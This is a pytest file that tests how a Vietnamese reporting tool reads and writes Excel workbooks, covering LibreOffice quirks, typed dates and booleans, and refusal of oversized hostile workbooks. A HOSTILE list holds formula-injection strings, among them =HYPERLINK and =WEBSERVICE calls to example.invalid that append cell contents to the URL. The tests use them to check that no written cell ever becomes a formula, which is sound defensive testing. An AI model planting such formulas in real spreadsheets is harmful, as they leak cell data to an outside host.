"""Workbooks as offices really make them (issue 16) and hostile ones (issue 19).

What LibreOffice writes (``TRUE()`` for TRUE, ``_xa_`` read as a line break), what people type
(``true``, ``Có``, ``05/6/2022``, a trailing space), renamed sheets and merged cells; workbooks
that would exhaust memory; and texts that would become formulas in the workbooks we write.
Real LibreOffice and Chromium are in ``test_office_clients.py``.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

openpyxl = pytest.importorskip("openpyxl", reason="the 'excel' extra (openpyxl) is not installed")

from emulation_rules import load_ruleset, load_submissions, score  # noqa: E402
from emulation_rules._support.workbook_bounds import MAX_CELL_TEXT, MAX_ROWS  # noqa: E402
from emulation_rules.inputs.excel import (  # noqa: E402
    FIRST_ROW,
    KEY_ROW,
    SHEET_UNITS,
    key_text,
    repair_key,
    write_template,
)
from emulation_rules.reports.excel_summary import write_summary  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent


def _test_excel() -> Any:
    """tests/test_excel.py, whose guide, unit and filling this file shares (importlib mode)."""
    spec = importlib.util.spec_from_file_location("_test_excel", ROOT / "tests" / "test_excel.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_SHARED = _test_excel()
GUIDE: str = _SHARED.GUIDE
GOOD: dict[str, Any] = _SHARED.GOOD
fill = _SHARED.fill


@pytest.fixture
def template(tmp_path: Path) -> Path:
    path = tmp_path / "guide.yaml"
    path.write_text(GUIDE, encoding="utf-8")
    out = tmp_path / "mau.xlsx"
    write_template(load_ruleset(path), out)
    return out


def read_one(path: Path):
    batch = load_submissions([path])
    return batch, {s.unit_id: s for s in batch.submissions}


def test_true_and_false_formulas_of_libreoffice_are_booleans(template, tmp_path):
    row = GOOD | {"co_bao_cao": "=TRUE()"}
    other = GOOD | {"unit_id": "phong-b", "co_bao_cao": "= false ( )"}
    batch, units = read_one(fill(template, [row, other], tmp_path / "f.xlsx"))
    assert batch.rejected == ()
    assert units["phong-a"].values["co_bao_cao"] is True
    assert units["phong-b"].values["co_bao_cao"] is False


def test_other_formulas_are_still_refused(template, tmp_path):
    batch, _ = read_one(fill(template, [GOOD | {"co_bao_cao": "=1=1"}], tmp_path / "f.xlsx"))
    [issue] = batch.rejected[0].issues
    assert issue.code == "value-type"
    assert "công thức" in issue.message


@pytest.mark.parametrize(
    ("typed", "value"),
    [
        ("true", True),
        ("TRUE ", True),
        ("Có", True),
        ("đúng", True),
        ("không", False),
        ("Sai", False),
    ],
)
def test_booleans_as_people_type_them(template, tmp_path, typed, value):
    batch, units = read_one(fill(template, [GOOD | {"co_bao_cao": typed}], tmp_path / "b.xlsx"))
    assert batch.rejected == (), batch.rejected
    assert units["phong-a"].values["co_bao_cao"] is value


@pytest.mark.parametrize(
    ("typed", "day"),
    [("05/6/2022", dt.date(2022, 6, 5)), ("5-6-2022", dt.date(2022, 6, 5)), ("31.01.2024", None)],
)
def test_dates_typed_day_first(template, tmp_path, typed, day):
    batch, units = read_one(fill(template, [GOOD | {"ngay_ke_hoach": typed}], tmp_path / "d.xlsx"))
    assert batch.rejected == (), batch.rejected
    assert units["phong-a"].values["ngay_ke_hoach"] == (day or dt.date(2024, 1, 31))


def test_a_date_that_does_not_exist_is_refused_in_vietnamese(template, tmp_path):
    batch, _ = read_one(
        fill(template, [GOOD | {"ngay_ke_hoach": "31/2/2024"}], tmp_path / "d.xlsx")
    )
    [issue] = batch.rejected[0].issues
    assert issue.code == "date-format"
    assert "không phải một ngày có thật" in issue.message
    assert issue.message.endswith("(trang 'Đơn vị', ô G3)")


def test_a_text_column_keeps_words_that_look_like_booleans_or_dates(tmp_path):
    guide = GUIDE.replace(
        "  muc_ky_luat:\n",
        "  ghi_chu: {type: text, label: Ghi chú, missing: not_applicable}\n  muc_ky_luat:\n",
    ).replace("formula: diem_danh_gia", "formula: diem_danh_gia\n        when: ghi_chu != ''")
    path = tmp_path / "g.yaml"
    path.write_text(guide, encoding="utf-8")
    write_template(load_ruleset(path), tmp_path / "m.xlsx")
    filled = fill(tmp_path / "m.xlsx", [GOOD | {"ghi_chu": "05/6/2022"}], tmp_path / "t.xlsx")
    batch, units = read_one(filled)
    assert batch.rejected == (), batch.rejected
    assert units["phong-a"].values["ghi_chu"] == "05/6/2022"


def test_a_trailing_space_is_trimmed_with_a_warning(template, tmp_path):
    batch, units = read_one(fill(template, [GOOD | {"muc_ky_luat": "khong "}], tmp_path / "s.xlsx"))
    assert batch.rejected == ()
    assert units["phong-a"].values["muc_ky_luat"] == "khong"
    [warning] = batch.issues
    assert (warning.code, warning.severity, warning.unit_id) == (
        "value-trimmed",
        "warning",
        "phong-a",
    )
    assert "khoảng trắng" in warning.message
    assert warning.message.endswith("(trang 'Đơn vị', ô H3)")


def test_a_renamed_sheet_is_found_by_its_key_row(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "r.xlsx")
    workbook = openpyxl.load_workbook(filled)
    workbook[SHEET_UNITS].title = "Sheet1"
    workbook.save(filled)
    batch, units = read_one(filled)
    assert list(units) == ["phong-a"]
    [warning] = batch.issues
    assert (warning.code, warning.severity) == ("sheet-renamed", "warning")
    assert "'Sheet1'" in warning.message


def test_keys_are_written_so_that_no_reader_alters_them_and_repaired_when_one_did():
    assert key_text("c3_2_so_xa_khong") == "c3_2_so_x005F_xa_khong"
    # what LibreOffice 7.4 reads and saves for a key with "_xa_": a line break
    assert repair_key("c3_2_so\nkhong_thu_gom") == "c3_2_so_xa_khong_thu_gom"
    assert repair_key("c3_2_so_x005F_xa_khong") == "c3_2_so_xa_khong"
    assert repair_key("phan_anh_xac_minh") == "phan_anh_xac_minh"


def test_a_key_decoded_by_libreoffice_is_read_back(tmp_path):
    guide = GUIDE.replace("so_bao_cao_tre", "so_xa_tre")
    path = tmp_path / "g.yaml"
    path.write_text(guide, encoding="utf-8")
    write_template(load_ruleset(path), tmp_path / "m.xlsx")
    row = {("so_xa_tre" if k == "so_bao_cao_tre" else k): v for k, v in GOOD.items()}
    row["evidence:so_xa_tre"] = row.pop("evidence:so_bao_cao_tre")
    workbook = openpyxl.load_workbook(tmp_path / "m.xlsx")
    sheet = workbook[SHEET_UNITS]
    keys = {repair_key(c.value): c for c in sheet[KEY_ROW] if c.value}
    for key, value in row.items():
        sheet.cell(FIRST_ROW, keys[key].column, value)
    for key, cell in keys.items():
        cell.value = key.replace("_xa_", "\n")  # as LibreOffice saves it
    workbook.save(tmp_path / "lo.xlsx")
    batch, units = read_one(tmp_path / "lo.xlsx")
    assert batch.rejected == (), batch.rejected
    assert units["phong-a"].values["so_xa_tre"] == 1


def test_a_value_merged_across_two_units_is_an_error_naming_the_range(template, tmp_path):
    second = GOOD | {"unit_id": "phong-b", "so_bao_cao_tre": None}
    filled = fill(template, [GOOD, second], tmp_path / "m.xlsx")
    workbook = openpyxl.load_workbook(filled)
    workbook[SHEET_UNITS].merge_cells("C3:C4")
    workbook.save(filled)
    batch, units = read_one(filled)
    assert list(units) == ["phong-a"]
    [rejected] = batch.rejected
    assert rejected.unit_id == "phong-b"
    [issue] = rejected.issues
    assert issue.code == "merged-cells"
    assert "C3:C4" in issue.message
    assert (issue.line, issue.column) == (4, 3)


# --------------------------------------------------------------------------------------------
# Bounds (issue 19): refused quickly with a code, never a MemoryError


def _refused(path: Path, code: str) -> str:
    started = time.perf_counter()
    batch = load_submissions([path])
    elapsed = time.perf_counter() - started
    assert [i.code for i in batch.issues] == [code], batch.issues
    assert elapsed < 10, elapsed
    return batch.issues[0].message


def _swap_part(source: Path, out: Path, part: str, write) -> Path:
    """Copy a workbook, with one part written by ``write(stream)`` instead."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename == part:
                with new.open(part, "w", force_zip64=True) as stream:
                    write(stream)
            else:
                new.writestr(item, old.read(item.filename))
    return out


def _units_part(path: Path) -> str:
    workbook = openpyxl.load_workbook(path)
    index = workbook.sheetnames.index(SHEET_UNITS) + 1
    return f"xl/worksheets/sheet{index}.xml"


def test_a_blank_cell_at_the_last_cell_of_a_sheet_costs_nothing(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "b.xlsx")
    workbook = openpyxl.load_workbook(filled)
    workbook[SHEET_UNITS]["XFD1048576"].number_format = "0.00"  # a cell with a format only
    workbook.save(filled)
    started = time.perf_counter()
    batch, units = read_one(filled)
    assert time.perf_counter() - started < 10
    assert list(units) == ["phong-a"]
    assert batch.issues == ()


def test_a_value_far_down_the_sheet_is_refused(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "v.xlsx")
    workbook = openpyxl.load_workbook(filled)
    workbook[SHEET_UNITS]["A1048576"] = "x"
    workbook.save(filled)
    message = _refused(filled, "sheet-too-large")
    assert "1,048,576" in message


@pytest.mark.slow
def test_a_million_rows_are_refused_quickly(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "m.xlsx")
    head = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )

    def rows(stream) -> None:
        stream.write(head)
        for number in range(1, 1_000_001):
            stream.write(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (number, number))
        stream.write(b"</sheetData></worksheet>")

    hostile = _swap_part(filled, tmp_path / "rows.xlsx", _units_part(filled), rows)
    message = _refused(hostile, "sheet-too-large")
    assert f"{MAX_ROWS:,}" in message


def _with_name(filled: Path, out: Path, write_name) -> Path:
    """The workbook with the unit's name (an inline text of the unit sheet) written anew."""
    part = _units_part(filled)
    with zipfile.ZipFile(filled) as archive:
        body = archive.read(part)
        # openpyxl's own XML writer keeps UTF-8; with lxml installed it writes character refs
        plain, escaped = GOOD["name"].encode(), GOOD["name"].encode("ascii", "xmlcharrefreplace")
        before, after = body.split(plain if plain in body else escaped)

    def write(stream) -> None:
        stream.write(before)
        write_name(stream)
        stream.write(after)

    return _swap_part(filled, out, part, write)


def test_a_huge_text_is_refused_before_it_is_read(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "t.xlsx")
    chunk = b"a" * 2**20

    def huge(stream) -> None:
        for _ in range(70):
            stream.write(chunk)

    hostile = _with_name(filled, tmp_path / "big.xlsx", huge)
    assert hostile.stat().st_size < 1_000_000  # a small file
    message = _refused(hostile, "workbook-too-large")
    assert _units_part(filled) in message


def test_a_text_longer_than_excel_keeps_is_refused(template, tmp_path):
    filled = fill(template, [GOOD], tmp_path / "l.xlsx")
    longer = ("Đ" * (MAX_CELL_TEXT + 1)).encode()
    hostile = _with_name(filled, tmp_path / "long.xlsx", lambda stream: stream.write(longer))
    message = _refused(hostile, "cell-too-long")
    assert "B3" in message
    assert "'Đơn vị'" in message


def test_not_a_workbook_inside_a_zip(tmp_path):
    path = tmp_path / "z.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    _refused(path, "file-not-found")


# --------------------------------------------------------------------------------------------
# No cell we write is ever a formula

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?q="&B3,"Bấm vào đây")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    "+1",
    "-1+2",
    "@x",
)


def _formulas(path: Path) -> list[str]:
    """Every formula cell of a workbook file, read from its XML parts."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = archive.read(name).decode("utf-8")
                if "<f>" in text or "<f " in text:
                    found.append(name)
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found.extend(c.coordinate for c in row if c.data_type == "f")
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(tmp_path, text):
    guide = GUIDE.replace(
        "title: Hướng dẫn thử bảng tính", f"title: '{text.replace(chr(39), chr(39) * 2)}'"
    )
    guide = guide.replace(
        "label: Số báo cáo gửi trễ hạn", f"label: '{text.replace(chr(39), chr(39) * 2)}'"
    )
    path = tmp_path / "g.yaml"
    path.write_text(guide, encoding="utf-8")
    compiled = load_ruleset(path)
    write_template(compiled, tmp_path / "mau.xlsx")
    assert _formulas(tmp_path / "mau.xlsx") == []
    units = [
        GOOD | {"name": text, "evidence:co_bao_cao": text},
        GOOD | {"unit_id": "phong-b", "name": text, "muc_ky_luat": "sai"},
    ]
    batch = load_submissions([fill(tmp_path / "mau.xlsx", units, tmp_path / "f.xlsx")])
    result = score(compiled, batch.submissions, rejected=batch.rejected)
    write_summary(compiled, result, tmp_path / "tong-hop.xlsx")
    assert _formulas(tmp_path / "tong-hop.xlsx") == []
    workbook = openpyxl.load_workbook(tmp_path / "tong-hop.xlsx")
    shown = [c.value for s in workbook.worksheets for r in s.iter_rows() for c in r]
    assert shown.count(text) >= 2  # the names, written as texts


def test_print_layout_of_the_template_and_the_summary(template):
    workbook = openpyxl.load_workbook(template)
    for sheet in workbook.worksheets:
        if sheet.sheet_state == "hidden":
            continue
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    units = workbook[SHEET_UNITS]
    assert units.print_title_rows == "$1:$2"
    assert workbook.worksheets[0].row_dimensions[1].height >= 30  # room for Ẫ, Ố
